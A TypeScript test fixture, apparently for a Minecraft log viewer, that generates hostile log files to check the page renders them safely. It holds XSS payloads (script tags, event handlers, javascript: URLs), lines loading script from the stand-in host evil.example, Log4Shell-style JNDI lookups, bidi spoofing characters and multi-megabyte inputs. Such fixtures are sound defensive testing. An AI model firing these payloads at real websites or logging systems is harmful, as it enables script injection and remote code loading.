/** Logs that try to break the page of whoever reads them. */
export interface HostileLog {
  name: string;
  content: string;
  /** What stands beside its last row. */
  last: string;
  /** Something to search for. */
  word: string;
}

const megabyte = 1024 * 1024;
/** As much as the server takes, with a little to spare for what stands around it. */
const most = 10 * megabyte - 1000;

const repeated = (text: string, bytes: number) => text.repeat(Math.floor(bytes / Buffer.byteLength(text)));

const markup = [
  "</pre></main></div><script>alert(1)</script><script src=https://evil.example/x.js></script>",
  "<img src=x onerror=alert(2)><img src='https://evil.example/pixel.png'><svg onload=alert(3)>",
  "<iframe src='javascript:alert(4)'></iframe><iframe srcdoc='<script>alert(5)</script>'></iframe><object data=x>",
  "<style>*{display:none!important}</style><link rel=stylesheet href=https://evil.example/x.css>",
  "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example/'>",
  "<form action=https://evil.example/><input name=q autofocus onfocus=alert(6)></form><a href='javascript:alert(7)'>x</a>",
  `"><b onmouseover=alert(8)>' onclick='alert(9)' \` \${alert(10)} {{constructor.constructor('alert(11)')()}}`,
  "&lt;script&gt;alert(12)&lt;/script&gt; &#60;img src=x onerror=alert(13)&#62; <!-- --> <![CDATA[ ]]> <?php ?>",
  `\${jndi:ldap://evil.example/a} \${\${lower:j}ndi:rmi://evil.example/b} %s %n %x {0} %{x}`,
  '[12:00:00] [<img src=x onerror=alert(14)>/ERROR] ["><script>alert(15)</script>]: </textarea><script>alert(16)</script>',
  "[12:00:01] [Server thread/ERROR]: Could not load 'plugins/<script>alert(17)</script>.jar' in folder 'plugins'",
  "org.bukkit.plugin.UnknownDependencyException: Unknown/missing dependency plugins: [<img src=x onerror=alert(18)>, \"><svg/onload=alert(19)>]. Please download and install these plugins to run '<iframe src=javascript:alert(20)>'.",
  "[12:00:02] [Server thread/WARN]: java.lang.IllegalStateException: <script>alert(21)</script>",
  '\tat com.<script>alert(22)</script>.Main.run(Main.java:1) ~["><img src=x onerror=alert(23)>.jar:?]',
  `\x1b]8;;javascript:alert(24)\x07link\x1b]8;;\x07 \x1b[31m<script>alert(25)</script>\x1b[0m §c<img src=x onerror=alert(26)>§r`,
];

const unseen = [
  "\u202Eright to left override \u202Dleft to right \u2066isolate \u2067other \u061C mark \u200F\u200E",
  "مرحبا بالعالم [12:00:00] שלום עולם (1.20.4) mixed \u202E)txt.exe(\u202C end",
  "\u0000\u0001\u0002\u0007\u0008\u000b\u000c\u000e\u001a\u001b\u001f\u007f\u0080\u009b31m\u009f NUL and others \u0000\u0000",
  "lone \ud800 surrogates \udc00 and \udbff\ud800 halves, nonsense \ufffe\uffff and \ufeff marks \ufff9a\ufffab\ufffb",
  "\u2028 line and \u2029 paragraph separators, \u0085 next line, \u00ad soft hyphen, \u200b zero width \u2060 joiner",
  `zalgo ${"Z\u0335\u0321\u0322\u0327\u0328\u0330\u0331\u0332\u0333\u0339\u033a\u033b\u033c\u0345\u0300\u0301\u0302\u0303".repeat(40)}`,
  "\u{1F9D1}\u200D\u{1F91D}\u200D\u{1F9D1} \u{1F1E9}\u{1F1EA} \uFDFD ﷽﷽﷽ 𒐫𒐫𒐫 ༼ ༽ \u0E49\u0E49\u0E49\u0E49\u0E49\u0E49\u0E49\u0E49",
  `${"W".repeat(3000)} ${"\t".repeat(500)}end of tabs ${" ".repeat(3000)}end of spaces`,
];

const nestedTraces = Array.from({ length: 4000 }, (_, depth) =>
  [
    `${"Caused by: ".repeat(1 + (depth % 5))}java.lang.RuntimeException: level ${depth}`,
    `${"\t".repeat(1 + (depth % 40))}at a.b.C${depth}.<init>(C.java:${depth}) ~[x.jar:?]`,
    `\tat net.minecraft.server.Main.run${depth}(Main.java:2)`,
    `\t... ${depth} more`,
    `\tSuppressed: java.lang.Error: ${"[CIRCULAR REFERENCE:".repeat(3)}`,
  ].join("\n"),
).join("\n");

const wideName = `"'><img src=x onerror=alert(30)>\u202E${"W".repeat(200)}`;

/** Small ones come together in one log; each of the large ones is alone. Made when asked for: they are large. */
export const hostileLogs: readonly [what: string, make: () => HostileLog][] = [
  [
    "markup, scripts and signs",
    () => {
      const lines = [...markup, ...unseen, ...markup];
      return { name: wideName, content: lines.join("\n"), last: String(lines.length), word: "<script>" };
    },
  ],
  [
    "thousands of nested traces",
    () => {
      const content = `[12:00:00] [Server thread/ERROR]: x\n${nestedTraces}`;
      const last = String(content.split("\n").length);
      return { name: "</title><script>alert(31)</script>", content, last, word: "CIRCULAR" };
    },
  ],
  [
    "half a million marks on one letter",
    () => ({
      name: "e\u0301".repeat(100),
      content: `before\ne${repeated("\u0301", megabyte)}\nafter`,
      last: "3",
      word: "after",
    }),
  ],
  [
    "one line of ten megabytes",
    () => ({
      name: "W".repeat(255),
      content: `[12:00:00] [main/INFO]: ${repeated("endless<b>", most - 100)}`,
      last: "·",
      word: "endless",
    }),
  ],
  [
    "ten megabytes of colour codes",
    () => {
      const short = repeated("§x§1§2§3§4§5§6a\n", most / 4 - 10);
      const content = `${repeated("\x1b[31m\x1b[1;4;38;5;196m§ka§r", most / 2)}\n${repeated("\x1b[3", most / 4)}\n${short}`;
      return { name: "\u202Ereversed.log", content, last: "3", word: "a" };
    },
  ],
  [
    "five million lines",
    () => {
      const content = repeated("x\n", most);
      return { name: "short lines", content, last: String(content.length / 2), word: "x" };
    },
  ],
];
